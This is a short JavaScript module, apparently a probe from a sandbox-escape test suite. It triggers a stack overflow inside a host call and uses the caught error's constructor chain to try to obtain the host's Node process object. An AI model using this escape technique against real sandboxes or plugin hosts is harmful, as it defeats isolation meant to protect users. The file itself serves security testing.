// Escape attempt: a stack overflow timed to land inside a host call, hoping the RangeError comes from the host realm.
// Runs with ../escape-harness.js prepended (pwn, attempt).

module.exports = {
  name: 'escape-stack-overflow-host',
  description: 'sandbox escape attempt: stack-overflow-host',
  risk: 'inspect',
  phrases: [],
  params: { marker: { type: 'string' } },
  applies_to: [],
  async run(ctx, params) {
    const marker = params.marker;
    const notes = [];

    let depth = 0;
    function r() { depth++; try { __send("x"); r(); } catch (e) { attempt(notes, "overflow@" + depth, () => pwn(e.constructor.constructor("return process")(), marker, notes, "host overflow")); } }
    attempt(notes, "r", r);
    notes.splice(10);
    return { summary: notes.join(' | '), data: notes };
  },
};
